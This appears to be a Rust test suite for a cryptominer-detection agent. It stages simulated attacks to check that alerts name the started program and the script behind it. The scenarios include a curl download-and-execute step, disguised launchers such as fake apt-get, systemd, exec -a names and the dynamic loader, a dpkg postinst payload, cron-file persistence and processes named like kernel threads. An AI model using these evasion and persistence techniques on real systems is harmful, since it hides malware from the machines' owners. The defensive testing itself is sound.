//! Attacks whose programs have borrowed names, are started through other shells, sessions or packages, or run in unusual
//! ways. The alert must name the program and show the script that started the attack.

use std::{fs, process::Command, time::Duration};

use minerwatch_tests::{Scratch, agent::at, command::run, executable, namespace::Pair, native::Worker};
use serde_json::Value;

use crate::{EVERYTHING, SOON, machine, machine_for_long, start_agent};

/// Time in which a busy program is looked at, on a busy machine.
const LOOKED_AT: Duration = Duration::from_secs(30);

/// A way to fetch a program and to start it. `DIR` stands for the directory of the case, `FETCH FILE` for a download.
struct Case {
    name: &'static str,
    /// The files of the case, with their contents.
    files: &'static [(&'static str, &'static str)],
    /// The command that starts it.
    start: &'static str,
    /// The script that started the attack, below the directory.
    first: &'static str,
    /// The program that the alert is about, below the directory.
    program: &'static str,
}

/// The arguments of the program: it connects, sets up a job and stays for two seconds.
const INFECT: &str = "infect POOL /etc/cron.d/sync 2";

const CASES: &[Case] = &[
    Case {
        name: "names of package managers",
        files: &[
            ("dpkg", "DIR/apt-get\n"),
            ("apt-get", "#!/bin/sh\nbash --rcfile /usr/bin/apt-get DIR/update.sh\n"),
            ("update.sh", "FETCH DIR/x\nDIR/x INFECT\n"),
        ],
        start: "bash /usr/..DIR/dpkg",
        first: "dpkg",
        program: "x",
    },
    Case {
        name: "the name of the service manager, and another user",
        files: &[
            ("start.sh", "cp /bin/bash DIR/systemd\nDIR/systemd DIR/unit.sh\n"),
            ("unit.sh", "su root -c 'sh DIR/user.sh'\n"),
            ("user.sh", "FETCH DIR/x\nDIR/x INFECT\n"),
        ],
        start: "sh DIR/start.sh",
        first: "start.sh",
        program: "x",
    },
    Case {
        name: "shells and sessions",
        files: &[
            ("start.sh", "(exec -a -sh sh DIR/login.sh)\n"),
            ("login.sh", "setsid -w script -qc 'sh DIR/session.sh' /dev/null\n"),
            ("session.sh", "FETCH DIR/x\nDIR/x INFECT\n"),
        ],
        start: "bash DIR/start.sh",
        first: "start.sh",
        program: "x",
    },
    Case {
        name: "the dynamic loader",
        files: &[(
            "start.sh",
            "FETCH DIR/x\n$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -n 1) DIR/x INFECT\n",
        )],
        start: "sh DIR/start.sh",
        first: "start.sh",
        program: "x",
    },
    Case {
        name: "a renamed directory and a deleted program",
        files: &[(
            "start.sh",
            "mkdir DIR/a\nFETCH DIR/a/x\nmv DIR/a DIR/b\nDIR/b/x INFECT &\nsleep 0.3\nrm DIR/b/x\nwait\n",
        )],
        start: "sh DIR/start.sh",
        first: "start.sh",
        program: "b/x",
    },
    Case {
        name: "a sourced script, and one on standard input",
        files: &[
            ("start.sh", ". DIR/source.sh\n"),
            ("source.sh", "bash < DIR/input.sh\n"),
            ("input.sh", "FETCH DIR/x\nDIR/x INFECT\n"),
        ],
        start: "bash DIR/start.sh",
        first: "start.sh",
        program: "x",
    },
    Case {
        name: "the script of a package",
        files: &[
            (
                "control",
                "Package: p\nVersion: 1\nArchitecture: all\nMaintainer: m <m@example.org>\nDescription: d\n",
            ),
            ("postinst", "#!/bin/sh\nFETCH DIR/x\nsetsid DIR/x INFECT &\n"),
            (
                "start.sh",
                "mkdir -p DIR/tree/DEBIAN DIR/admin/info DIR/admin/updates\ntouch DIR/admin/status DIR/admin/available\n\
                 cp DIR/control DIR/postinst DIR/tree/DEBIAN\ndpkg-deb -b DIR/tree DIR/p.deb >/dev/null\n\
                 dpkg --admindir=DIR/admin -i DIR/p.deb >/dev/null 2>&1\n",
            ),
        ],
        start: "sh DIR/start.sh",
        first: "admin/info/p.postinst",
        program: "x",
    },
];

/// Runs a case below a directory of its own and checks the alert.
fn check(case: &Case, pair: &Pair) {
    let scratch = Scratch::new();
    let address = &pair.server.address;
    let (directory, pool) = (scratch.path().display().to_string(), format!("{address}:9000"));
    let fetch = format!("sh -c 'curl -s -o $1 http://{address}:8000/payload && chmod +x $1' get");
    let fill = |text: &str| {
        let text = text.replace("INFECT", INFECT).replace("FETCH", &fetch);
        text.replace("DIR", &directory).replace("POOL", &pool)
    };
    for (name, text) in case.files {
        fs::write(scratch.join(name), fill(text)).expect("a script can be written");
        run("chmod", &["+x", &scratch.join(name)]);
    }
    let agent = start_agent(&scratch, "");
    // The mount keeps the host's own jobs clean.
    let script = format!("mount -t tmpfs none /etc/cron.d && {}", fill(case.start));
    let status =
        pair.victim.command("unshare", &["--mount", "sh", "-c", &script]).status().expect("it starts");
    assert!(status.success(), "{}", case.name);
    let program = format!("{directory}/{}", case.program);
    let alert = agent.wait_for(case.name, SOON, |object| {
        let is_suspected = matches!(at(object, "minerwatch.verdict").as_str(), Some("suspected" | "mining"));
        let message = at(object, "message").as_str().unwrap_or_default();
        is_suspected && message.contains(&program) && message.contains("/etc/cron.d/sync")
    });
    let first = format!("{directory}/{}", case.first);
    let chain = at(&alert, "minerwatch.chain").as_array().map_or(&[][..], Vec::as_slice);
    let is_first = |step: &Value| {
        step["kind"] == "create" && step["object"].as_str().is_some_and(|object| object.contains(&first))
    };
    assert!(chain.iter().any(is_first), "{}: no start of {first} in {chain:#?}", case.name);
    agent.stop();
}

#[test]
fn attacks_are_found_whatever_starts_their_programs() {
    let Some(_machine) = machine_for_long("attacks_are_found_whatever_starts_their_programs") else {
        return;
    };
    let pair = Pair::new(23);
    let share = Scratch::new();
    fs::copy(executable("simulator"), share.join("payload")).expect("the payload can be copied");
    let directory = share.path().display().to_string();
    let _web = pair.server.serve(8000, "python3", &["-m", "http.server", "8000", "--directory", &directory]);
    let pool = "import socket\ns=socket.create_server(('0.0.0.0',9000))\nwhile True:\n c,_=s.accept(); c.recv(1); c.close()";
    let _pool = pair.server.serve(9000, "python3", &["-c", pool]);
    for case in CASES {
        check(case, &pair);
    }
}

/// The kernel names its workers in more ways than `kworker/0:1`.
#[test]
fn the_names_of_kernel_threads_are_known_in_all_their_forms() {
    let Some(_machine) = machine("the_names_of_kernel_threads_are_known_in_all_their_forms") else { return };
    let scratch = Scratch::new();
    let agent = start_agent(&scratch, EVERYTHING);
    let busy = "$end = time + 40; 1 while time < $end";
    let started = |name: &str| {
        let mut bash = Command::new("bash");
        bash.args(["-c", &format!("exec -a '{name}' sleep 40")]);
        Worker::start_command(bash)
    };
    let renamed = |name: &str| {
        let mut perl = Command::new("perl");
        perl.args(["-e", &format!("$0 = '{name}'; {busy}")]);
        Worker::start_command(perl)
    };
    let workers = [
        started("[scsi_eh_0]"),
        started("kworker/u8:2-events_unbound"),
        renamed("kworker/u16:3-flush-259:0"),
        renamed("[jbd2/sda1-8]"),
    ];
    for worker in &workers {
        agent.wait_for("B4", LOOKED_AT, |object| {
            let suspects = at(object, "minerwatch.suspects").as_array().map_or(&[][..], Vec::as_slice);
            suspects.iter().any(|suspect| {
                let has_signal =
                    suspect["signal_ids"].as_array().is_some_and(|ids| ids.contains(&Value::from("B4")));
                suspect["process"]["pid"] == worker.pid() && has_signal
            })
        });
    }
    drop(workers);
    agent.stop();
}
